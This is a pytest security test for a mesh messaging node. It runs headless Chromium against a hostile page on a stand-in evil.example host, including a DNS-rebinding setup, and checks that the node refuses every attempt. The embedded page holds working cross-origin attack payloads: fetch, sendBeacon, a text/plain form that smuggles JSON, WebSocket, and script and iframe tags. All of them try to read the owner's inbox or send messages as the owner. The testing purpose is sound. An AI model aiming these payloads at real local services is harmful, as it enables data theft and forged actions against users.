"""A web page against the owner's node, in a real Chromium: it reads nothing and sends nothing.

The page comes from another port, from another name for this machine, from a name of its own, and from a name that leads
to the node a moment later (DNS rebinding). It tries every way a page has to make a request. Between browser and node
stands a relay that writes down every byte, so that the test sees that the tries were made, and what was answered.
"""

import json
import re
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from socketserver import BaseRequestHandler, ThreadingTCPServer
from typing import Any, ClassVar
from urllib.parse import urlsplit

import pytest

from meshproto.cli.processes import Children, until
from meshproto.client.node import Node

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
BROWSER_S = 120.0
SECRET = "the owner's secret"
EVIL = "written by the page"

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")

PAGE = """<!doctype html><meta charset=utf-8><body><script>
const target = TARGET, evil = JSON.stringify({to: "UserX", message: EVIL}), seen = {};
const patience = ms => new Promise(done => setTimeout(() => done("nothing came"), ms));
const text = answer => answer.text().then(body => `${answer.type} ${answer.status} ${body}`);
const asked = (path, options) => fetch(target + path, options).then(text);
const fires = (thing, ...names) => new Promise(done => names.forEach(
    name => thing.addEventListener(name, event => done(`${name} ${event.data || ""}`))));
const put = (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes);
    const fired = fires(element, "load", "error");
    document.body.append(element);
    return fired.then(name => {
        try { return `${name} ${element.contentDocument.body.innerText}`; } catch (error) { return name; }
    });
};
const submit = (enctype, fields) => {
    const frame = Object.assign(document.createElement("iframe"), {name: enctype});
    const form = Object.assign(document.createElement("form"),
        {action: target + "/send", method: "post", enctype, target: enctype});
    for (const [name, value] of Object.entries(fields))
        form.append(Object.assign(document.createElement("input"), {name, value}));
    document.body.append(frame, form);
    const loaded = fires(frame, "load");
    form.submit();
    return loaded.then(name => {
        try { return `${name} ${frame.contentDocument.body.innerText}`; } catch (error) { return name; }
    });
};
const post = (mode, type, path = "/send") => asked(path, {method: "POST", mode, body: evil,
    headers: type ? {"Content-Type": type} : {}});
const tries = {
    "read": () => asked("/inbox"),
    "read blindly": () => asked("/inbox", {mode: "no-cors"}),
    "read with credentials": () => asked("/inbox", {credentials: "include"}),
    "read with a header": () => asked("/inbox", {headers: {"X-Any": "1"}}),
    "read as XHR": () => new Promise((done, failed) => {
        const request = new XMLHttpRequest();
        request.onload = () => done(request.responseText);
        request.onerror = failed;
        request.open("GET", target + "/inbox");
        request.send();
    }),
    "send": () => post("cors"),
    "send simply": () => post("no-cors", "text/plain"),
    "send as form data": () => post("no-cors", "application/x-www-form-urlencoded"),
    "send as JSON": () => post("cors", "application/json"),
    "send a stream": () => post("cors", "application/x-ndjson"),
    "send text": () => post("no-cors", "text/plain", "/send/UserX"),
    "send a beacon": () => navigator.sendBeacon(target + "/send", evil),
    "send a form": () => submit("text/plain", {[evil.slice(0, -1) + ',"x":"']: '"}'}),
    "send a form as usual": () => submit("application/x-www-form-urlencoded", {to: "UserX", message: EVIL}),
    "cancel": () => asked("/outbox/1", {method: "DELETE"}),
    "trust": () => asked("/contacts/UserX", {method: "PUT", body: "{}"}),
    "read the history": () => asked("/history/UserX", {mode: "no-cors"}),
    "follow": () => fires(new EventSource(target + "/inbox/stream?after=0"), "message", "open", "error"),
    "talk": () => fires(new WebSocket(target.replace("http", "ws") + "/inbox"), "message", "open", "error"),
    "show": () => put("img", {src: target + "/inbox?img"}),
    "run": () => put("script", {src: target + "/inbox?script"}),
    "style": () => put("link", {rel: "stylesheet", href: target + "/inbox?style"}),
    "frame": () => put("iframe", {src: target + "/inbox?frame"}),
    "embed": () => put("object", {data: target + "/inbox?object", type: "text/html"}),
};
(async () => {
    for (const [name, make] of Object.entries(tries))
        seen[name] = await Promise.race([Promise.resolve().then(make).catch(String), patience(5000)]);
    await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""

TRIED = {
    "GET /inbox",
    "GET /inbox/stream?after=0",
    "GET /history/UserX",
    "POST /send",
    "POST /send/UserX",
    "GET /inbox?img",
    "GET /inbox?script",
    "GET /inbox?style",
    "GET /inbox?frame",
    "GET /inbox?object",
}
"""What reaches the node from every page: whatever needs no permission first."""


class _Server(ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
    block_on_close = False


class Relay:
    """Hands bytes on to the node, and keeps them. As a context manager it listens."""

    def __init__(self, node: tuple[str, int], host: str = "127.0.0.1", port: int = 0) -> None:
        self.heard = self.answered = b""
        self._lock = threading.Lock()
        relay = self

        class Handler(BaseRequestHandler):
            def handle(self) -> None:
                with socket.create_connection(node, timeout=BROWSER_S) as there, suppress(OSError):
                    back = threading.Thread(target=relay._carry, args=(there, self.request, "answered"), daemon=True)
                    back.start()
                    relay._carry(self.request, there, "heard")
                    back.join(BROWSER_S)

        self._server = _Server((host, port), Handler)
        self.port: int = self._server.server_address[1]

    def _carry(self, source: socket.socket, target: socket.socket, kept: str) -> None:
        with suppress(OSError):
            while piece := source.recv(65536):
                with self._lock:
                    setattr(self, kept, getattr(self, kept) + piece)
                target.sendall(piece)
            target.shutdown(socket.SHUT_WR)

    @property
    def requests(self) -> set[str]:
        return set(re.findall(r"((?:GET|POST|PUT|DELETE|OPTIONS) \S+) HTTP/1\.1\r\n", self.heard.decode("latin-1")))

    @property
    def statuses(self) -> set[int]:
        return {int(status) for status in re.findall(rb"HTTP/1\.1 (\d+) ", self.answered)}

    def __enter__(self) -> "Relay":
        threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


class Evil:
    """Serves the page, and takes its report. What it is asked besides goes to `rebound`: as if its name led there now,
    which a browser cannot tell."""

    def __init__(self, target: str, host: str = "127.0.0.1", rebound: Relay | None = None) -> None:
        self.report: dict[str, str] | None = None
        page = PAGE.replace("TARGET", json.dumps(target)).replace("EVIL", json.dumps(EVIL)).encode()
        evil = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            own: ClassVar[set[str]] = {"/", "/report", "/favicon.ico"}

            def _serve(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length)
                self.close_connection = True
                if self.path not in self.own and rebound is not None:
                    self._hand_on(rebound, body)
                    return
                if self.path == "/report":
                    evil.report = json.loads(body)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def _hand_on(self, rebound: Relay, body: bytes) -> None:
                self.headers.replace_header("Connection", "close")
                head = f"{self.requestline}\r\n" + "".join(f"{n}: {v}\r\n" for n, v in self.headers.items()) + "\r\n"
                with socket.create_connection(("127.0.0.1", rebound.port), timeout=BROWSER_S) as node:
                    node.sendall(head.encode("latin-1") + body)
                    while piece := node.recv(65536):
                        self.wfile.write(piece)

            do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = _serve

            def log_message(self, format: str, *args: object) -> None:
                """Tests are quiet."""

        self._server = ThreadingHTTPServer((host, 0), Handler)
        self.port: int = self._server.server_address[1]

    def __enter__(self) -> "Evil":
        threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def chromium(directory: Path, url: str, *more: str) -> subprocess.Popen[bytes]:
    assert CHROMIUM is not None
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
    flags += [
        "--no-proxy-server",
        "--disable-background-networking",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
    ]
    profile = f"--user-data-dir={directory / 'profile'}"
    with (directory / "chromium.log").open("ab") as log:
        return subprocess.Popen(
            [CHROMIUM, *flags, profile, *more, url], stdout=subprocess.PIPE, stderr=log, env=_environment(directory)
        )


def _environment(directory: Path) -> dict[str, str]:
    return {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(directory)}


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Node]:
    """UserX's node, with one message in its inbox."""
    with Children(tmp_path_factory.mktemp("node")) as children:
        seed = children.start("meshseed", "seedX")
        node = Node(children.start("meshuser", "UserX", "--seed", seed))
        until(lambda: node.status().document["registered"] or None, "UserX is registered")
        assert node.send("UserX", SECRET).document["status"] == "delivered"
        yield node
        assert "Traceback" not in children.all["UserX"].log.read_text()


def address(node: Node) -> tuple[str, int]:
    parts = urlsplit(node.url)
    return parts.hostname or "", parts.port or 0


def texts(node: Node) -> list[Any]:
    return [message["message"] for message in node.inbox().document["messages"]]


def visit(directory: Path, evil: Evil, url: str) -> dict[str, str]:
    """What the page has seen."""
    browser = chromium(directory, url, "--remote-debugging-port=0")
    try:
        return until(lambda: evil.report, "the page has reported", BROWSER_S)
    finally:
        browser.terminate()
        browser.communicate(timeout=BROWSER_S)


@pytest.mark.parametrize(
    ("page", "target"),
    [
        ("127.0.0.1", "127.0.0.1"),
        ("localhost", "127.0.0.1"),
        ("127.0.0.1", "localhost"),
        ("evil.example", "127.0.0.1"),
        ("evil.example", "evil.example"),
    ],
    ids=["another port", "another name", "by name", "another site", "a name that leads here"],
)
def test_a_page_from_another_origin_reads_and_sends_nothing(node: Node, tmp_path: Path, page: str, target: str) -> None:
    """Whatever the page tries is made, and refused by the node, and nothing of the inbox comes out even as far as the
    browser."""
    with Relay(address(node)) as relay, Evil(f"http://{target}:{relay.port}") as evil:
        seen = visit(tmp_path, evil, f"http://{page}:{evil.port}/")
        assert relay.requests >= TRIED
        assert relay.statuses <= {204, 403, 405}
        assert SECRET.encode() not in relay.answered
    check(node, seen)


def test_a_page_whose_name_leads_to_the_node_reads_and_sends_nothing(node: Node, tmp_path: Path) -> None:
    """DNS rebinding: to the browser the node is the page's own origin, and lets it read and send what it likes. The
    node sees a name that is not its own."""
    with ExitStack() as stack:
        relay = stack.enter_context(Relay(address(node)))
        evil = stack.enter_context(Evil("", rebound=relay))
        seen = visit(tmp_path, evil, f"http://evil.example:{evil.port}/")
        assert TRIED | {"DELETE /outbox/1", "PUT /contacts/UserX"} <= relay.requests
        assert relay.statuses == {403}
        assert SECRET.encode() not in relay.answered
        assert "403" in seen["read"] and "not called" in seen["read"]
    check(node, seen)


def check(node: Node, seen: dict[str, str]) -> None:
    assert SECRET not in json.dumps(seen)
    assert seen.keys() == set(re.findall(r'^    "([^"]+)": \(\) =>', PAGE, re.MULTILINE))
    assert texts(node) == [SECRET]
    assert [message["id"] for message in node.outbox().document["messages"]] == [
        message["id"] for message in node.inbox().document["messages"]
    ]


def test_the_owner_reads_in_the_same_browser(node: Node, tmp_path: Path) -> None:
    """An address that the owner types is answered: the refusals above are of pages, not of browsers."""
    host, port = address(node)
    browser = chromium(tmp_path, f"http://{host}:{port}/inbox", "--dump-dom")
    shown, _ = browser.communicate(timeout=BROWSER_S)
    assert SECRET in shown.decode()
